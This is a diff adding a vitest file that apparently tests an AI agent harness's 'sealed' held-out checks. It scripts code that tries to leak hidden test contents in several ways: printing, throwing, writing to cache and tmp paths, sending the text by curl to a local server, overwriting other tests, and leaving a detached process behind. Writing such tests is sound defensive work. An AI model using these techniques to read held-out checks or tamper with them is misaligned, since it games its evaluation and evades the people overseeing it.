@@ -1,0 +1,130 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { goalIdOf, reply, sequence } from '../../../demo/script.ts';
+import type { SealedOfGoal } from '../../../schema/sealed.ts';
+import { openScriptedGoals, type ScriptedGoals } from '../../support/scripted-goals.ts';
+import { claim, SECRETS, SHOP, seal, writeSum } from '../sealed/shop.ts';
+
+/** What the code under test does with what lies beside it in the proof. */
+const tell = (how: string): string => `exports.sum = (a, b) => (a === 1 ? 3 : a - b);
+const fs = require('node:fs');
+const os = require('node:os');
+const path = require('node:path');
+const found = fs.readdirSync('test').map((name) => fs.readFileSync(path.join('test', name), 'utf8'));
+const text = [...fs.readdirSync('test'), ...found].join('\\n').replaceAll('\\n', ' ');
+const put = (at, what = text) => {
+  try {
+    fs.mkdirSync(path.dirname(at), { recursive: true });
+    fs.writeFileSync(at, what);
+  } catch {}
+};
+if (fs.readdirSync('test').length > 1) {
+${how}
+}
+`;
+
+const places = [
+  ...[
+    "path.join(os.homedir(), '.npm/_cacache/content-v2/a')",
+    "path.join(os.homedir(), '.cache/a')",
+  ],
+  ...["'/tmp/a'", "'/var/tmp/a'", "'/dev/shm/a'", "'./left.txt'", "'node_modules/.cache/a'"],
+  ...["'node_modules/lib/a'", "'../a'", "path.join(process.env.TMPDIR ?? '/tmp', 'b')"],
+];
+
+const LOOK =
+  'grep -rlE "zqx(heldout|content|case)" $HOME /tmp /var/tmp /dev/shm . .. 2>/dev/null; true';
+
+let server: Server;
+const heard: string[] = [];
+let goals: ScriptedGoals;
+beforeAll(async () => {
+  server = createServer((request, response) => {
+    heard.push(request.url ?? '');
+    response.end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  const look = reply.call('run_command', { command: LOOK });
+  const script = (how: string) => sequence([writeSum(tell(how)), claim, look, claim]);
+  goals = await openScriptedGoals({
+    prints: script('console.log(text); console.error(text);'),
+    throws: script('throw new Error(text);'),
+    writes: script(places.map((place) => `put(${place});`).join('\n')),
+    names: script(
+      "require('node:test').test(text, () => { throw new Error(text); });\nprocess.title = text;",
+    ),
+    calls: script(
+      `require('node:child_process').spawnSync('curl', ['-m2', 'http://127.0.0.1:${port}/' + encodeURIComponent(text).slice(0, 900)]);`,
+    ),
+    rewrites: script(
+      "for (const name of fs.readdirSync('test')) if (!name.startsWith('sum')) put('test/' + name, \"require('node:test').test('a', () => {});\");",
+    ),
+    stays: script(
+      "require('node:child_process').spawn('sh', ['-c', 'sleep 8; grep -r zqx . > /tmp/late; cp /tmp/late ./late'], { detached: true, stdio: 'ignore' }).unref();",
+    ),
+  });
+});
+afterAll(async () => {
+  await goals.world.close();
+  server.close();
+});
+
+test.each([
+  ['prints', 'none'],
+  ['throws', 'none'],
+  ['writes', 'none'],
+  ['calls', 'none'],
+  ['stays', 'none'],
+  ['names', 'name'],
+] as const)(
+  'SEAL-6 code under test that %s what it reads tells the model nothing of it',
+  async (name, hint) => {
+    const { sealedId } = await seal(goals.world, { hint });
+    const workspace = {
+      path: await goals.world.workspace({ ...SHOP, 'node_modules/lib/index.js': '' }),
+    };
+    const criteria = [
+      { kind: 'command' as const, command: 'node --test test/sum.test.js' },
+      { kind: 'sealed' as const, sealedId },
+    ];
+    const goalId = await goals.start(name, {
+      ...{ workspace, criteria, scope: { change: ['src/**'] } },
+      // The goal's own commands may call the network; what is sealed runs without it.
+      policy: { sandbox: { network: 'host' } },
+      budget: { turns: 3 },
+    });
+    await goals.rest(goalId);
+    const shown = await goals.world.client.get<SealedOfGoal>(`/v1/goals/${goalId}/sealed`);
+    const own = shown.items[0]?.runs.filter(({ origin }) => origin === 'gate') ?? [];
+    // The second claim is of the same files, so nothing ran for it.
+    expect(own.map(({ state }) => state)).toEqual(['unmet']);
+    const prompts = goals.world.model.requests.filter((one) => goalIdOf(one) === goalId);
+    expect(prompts.length).toBeGreaterThan(3);
+    const read = prompts.flatMap(({ messages }) => messages.map(({ text }) => text)).join('\n');
+    const allowed = hint === 'name' ? ['zqxcase'] : [];
+    for (const secret of SECRETS) {
+      if (!allowed.includes(secret)) expect(read).not.toContain(secret);
+    }
+    expect(heard.filter((url) => /zqx/.test(url))).toEqual([]);
+  },
+);
+
+test('SEAL-18 a sealed file that the code under test rewrites meets nothing', async () => {
+  const command = `node -e "require('./src/sum.js')" && node --test test/zqxheldout.test.js`;
+  const { sealedId } = await seal(goals.world, { command });
+  const workspace = { path: await goals.world.workspace(SHOP) };
+  const criteria = [
+    { kind: 'command' as const, command: 'node --test test/sum.test.js' },
+    { kind: 'sealed' as const, sealedId },
+  ];
+  const more = { workspace, criteria, scope: { change: ['src/**'] }, budget: { turns: 1 } };
+  const goalId = await goals.start('rewrites', more);
+  expect((await goals.rest(goalId)).completion).toBeUndefined();
+  const shown = await goals.world.client.get<SealedOfGoal>(`/v1/goals/${goalId}/sealed`);
+  expect(shown.items[0]?.runs.at(-1)).toMatchObject({
+    state: 'unmet',
+    reason: 'sealed files changed while it ran',
+  });
+});
